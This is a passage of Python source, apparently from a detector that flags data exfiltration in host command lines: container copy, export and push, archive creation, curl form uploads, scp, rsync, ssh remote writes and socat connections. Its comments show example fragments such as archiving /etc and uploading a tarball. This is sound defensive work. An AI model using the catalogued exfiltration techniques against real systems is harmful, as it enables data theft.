        rest = opts.positionals[opts.positionals.index(verb) + 1 :]
        if verb == "cp" and len(rest) >= 2 and ":" in rest[0] and not _drive(rest[0]):
            return [
                self._platform(
                    SignalKind.COPY_OUT,
                    f"{name} cp",
                    event,
                    f"host process ran {name} cp {rest[0]} {rest[1]}",
                    rest[0],
                )
            ]
        if verb == "export" and rest:
            where = opts.value("-o", "--output") or "standard output"
            return [
                self._platform(
                    SignalKind.COPY_OUT,
                    f"{name} export",
                    event,
                    f"host process exported container {rest[0]} to {where}",
                    rest[0],
                )
            ]
        if verb == "commit" and rest:
            return [
                self._platform(
                    SignalKind.COMMIT,
                    f"{name} commit",
                    event,
                    f"host process committed container {rest[0]}",
                    rest[1] if len(rest) > 1 else None,
                )
            ]
        if verb == "push" and rest:
            return [
                self._platform(
                    SignalKind.PUSH,
                    f"{name} push",
                    event,
                    f"host process pushed image {rest[0]}",
                    rest[0],
                )
            ]
        if verb in ("cp", "push", "commit", "export"):
            return []  # copying into a container, or a call missing its arguments
        mounts = tuple(v for k, v in opts.values.items() if k in ("-v", "--volume", "--mount"))
        detail = f" mounting {', '.join(mounts)}" if mounts else ""
        return [
            Signal(
                SignalKind.RUNTIME,
                tool=f"{name} {verbs[0]}",
                technique="T1610",
                event=event,
                explanation=f"host process ran {name} {verbs[0]}{detail}",
                sent_paths=mounts,
            )
        ]


def _egress_scope(destination: Destination | None) -> str:
    """Egress is internal only in the shared range, by the --shared-range choice."""
    internal = destination is not None and destination.internal
    return "internal (shared range, --shared-range)" if internal else "non-internal"


def _drive(arg: str) -> bool:
    return len(arg) > 2 and arg[1] == ":" and arg[2] in "\\/"


def _archived_paths(argv: list[str]) -> tuple[str, ...]:
    """What a tar create packs: its positionals that are not the output (`tar cf - /etc`)."""
    opts = parse(argv[1:], "fCTbHKLNVg", bundled=True)
    output = opts.value("-f", "--file")
    directory = opts.value("-C", "--directory")
    paths = [p for p in opts.positionals if p != output]
    if directory:
        paths = [f"{directory.rstrip('/')}/{p}" if not p.startswith("/") else p for p in paths]
    return tuple(paths)


def _creates(spec: Archiver, opts: Parsed) -> bool:
    if spec.requires and not all(opts.has(r) for r in spec.requires):
        return False
    if spec.mode == "always":
        return True
    if spec.mode == "subcommand":
        return bool(opts.positionals) and opts.positionals[0].lower() in spec.subcommands
    reads = bool(opts.shorts & set(spec.decompress_short) or opts.longs & set(spec.decompress_long))
    if spec.mode == "flags":  # a read option beside the create one means another mode (pax -rw)
        creates = opts.shorts & set(spec.create_short) or opts.longs & set(spec.create_long)
        return bool(creates) and not reads
    # unless_flags: compressors compress unless told to decompress, test or list
    return not reads


def _archive_output(
    spec: Archiver, tool: str, opts: Parsed, command: cmdline.Command
) -> str | None:
    positionals = opts.positionals
    kind = spec.output
    if kind == "option":
        value = opts.value(*spec.output_options)
        return command.stdout_file if value == "-" else value or command.stdout_file
    if kind == "first_positional":
        return positionals[0] if positionals else None
    if kind == "last_positional":
        return positionals[-1] if len(positionals) > 1 else None
    if kind == "first_after_subcommand":
        return positionals[1] if len(positionals) > 1 else None
    if kind == "last_before_options":  # `mksquashfs SOURCE... DEST [-comp xz ...]`
        leading = list(takewhile(lambda arg: not arg.startswith("-"), command.argv[1:]))
        return leading[-1] if len(leading) > 1 else None
    # compressed_input: gzip writes FILE.gz beside FILE, or to stdout
    if command.stdout_file:
        return command.stdout_file
    if positionals and not ({"c"} & opts.shorts or "--stdout" in opts.longs):
        return positionals[0] + _COMPRESSED_SUFFIX.get(tool, "")
    return None


def _sent_paths(spec: Transfer, opts: Parsed) -> tuple[str, ...]:
    sent: list[str] = []
    for option in spec.upload_options:
        value = opts.value(option)
        if value is None:
            continue
        if option in ("-F", "--form", "--form-string"):
            # curl -F 'file=@/tmp/x.tgz;type=application/gzip'
            at = value.find("@")
            if at >= 0:
                sent.append(value[at + 1 :].split(";", 1)[0])
        else:
            sent.append(value)
    for option in spec.data_options:
        value = opts.value(option)
        if value and value.startswith("@"):
            sent.append(value[1:])
    return tuple(s for s in sent if s)


def _remote_host(arg: str) -> str | None:
    """`user@host:path` or `rsync://host/...` → host; a local path (or `C:\\x`) → None."""
    if arg.startswith("rsync://"):
        return netloc.url_host_port(arg)[0]
    if ":" not in arg or arg.startswith("/") or (len(arg) > 1 and arg[1] == ":"):
        return None
    head = arg.split(":", 1)[0]
    if "/" in head:
        return None
    return head.rsplit("@", 1)[-1].strip("[]") or None


def _local_sources(positionals: list[str], spec: Transfer) -> tuple[str, ...]:
    """The local files a copy names: every positional but the target (the last, or for a
    registry push the reference after the subcommand)."""
    body = [p for p in positionals if p not in spec.subcommands and p not in spec.verbs]
    files = body[1:] if spec.destination == "registry" else body[:-1]
    return tuple(p for p in files if _remote_host(p) is None and not p.startswith(_REMOTE_SCHEMES))


_SCP_LIKE = re.compile(r"^[\w.-]+@[\w.-]+:")  # git@github.com:owner/repo.git


def _registry_host(ref: str) -> str:
    """The registry an image or artifact reference names (Docker's rule: a first component
    with a dot, a port or `localhost` is a host; otherwise Docker Hub)."""
    first, slash, _ = ref.partition("/")
    if slash and ("." in first or ":" in first or first == "localhost"):
        return first
    return "registry-1.docker.io"


def _remote_write(opts: Parsed) -> bool:
    """ssh host 'cat > x' / 'dd of=x': the remote command writes what ssh carries."""
    tail = " ".join(opts.positionals[1:])
    return "cat >" in tail or "dd of=" in tail or tail.startswith("tee ")


def _read_by(upstream: list[str]) -> tuple[str, ...]:
    """The files a reader piping into an uploader reads (`cat`, `pv`, `dd if=`, `base64`...):
    what the uploader sends, so an upload that way still names the archive."""
    if not upstream or cmdline.exe_name(upstream[0]) not in _READERS:
        return ()
    words = (w.removeprefix("if=") for w in upstream[1:] if w.startswith("if=") or w[:1] != "-")
    return tuple(w for w in words if "/" in w or "." in w)[:4]


def _feeds_data(command: cmdline.Command) -> bool:
    """Whether what the shell feeds the command can be collected data: a file, or a pipe from
    anything but echo or printf of short literal text (`echo | openssl s_client -connect`
    checking a certificate, `printf 'GET /'` probing a port). Text that expands (`$(...)`,
    `$VAR`, backquotes) may be a file's content, and a long literal may be data typed in."""
    if command.stdin_file is not None:
        return True
    if not command.piped_in:
        return False
    upstream = command.upstream
    if not upstream or cmdline.exe_name(upstream[0]) not in _LITERAL_FEEDERS:
        return True
    text = " ".join(upstream[1:])
    return len(text) > MAX_LITERAL_FEED or "$" in text or "`" in text


def _socat_destination(detector: Detector, positionals: list[str]) -> Destination | None:
    reads_file = any(p.upper().startswith(("FILE:", "OPEN:", "GOPEN:")) for p in positionals)
    for address in positionals:
        head, _, rest = address.partition(":")
        if head.upper() in ("TCP", "TCP4", "TCP6", "OPENSSL", "SSL", "UDP", "UDP4", "UDP6"):
            if rest.startswith("["):  # TCP6:[::1]:443
                host, _, port = rest[1:].partition("]")
                port = port.removeprefix(":")
            else:
                host, _, port = rest.partition(":")
            port_number = netloc.port(port.split(",", 1)[0])
            if reads_file or "-" in positionals or "STDIN" in (p.upper() for p in positionals):
                return detector._host_destination(host, port_number)
    return None


# Script archivers whose output is a PowerShell argument, read by detection/powershell.py.
POWERSHELL_SCRIPTS = frozenset({"Compress-Archive", "ZipFile.CreateFromDirectory"})


def _powershell_path(text: str, match: re.Match[str]) -> str:
    """The archive path as PowerShell would read the argument the pattern found: from its
    opening quote (a command line's `\\"` too), variables assigned before it resolved."""
    group = next(i for i, g in enumerate(match.groups(), start=1) if g)
    at = match.start(group)
    if at > 0 and text[at - 1] in "\"'":
        at -= 2 if text[at - 2 : at] == '\\"' else 1
    return powershell.resolve(powershell.argument_at(text, at), text, at)
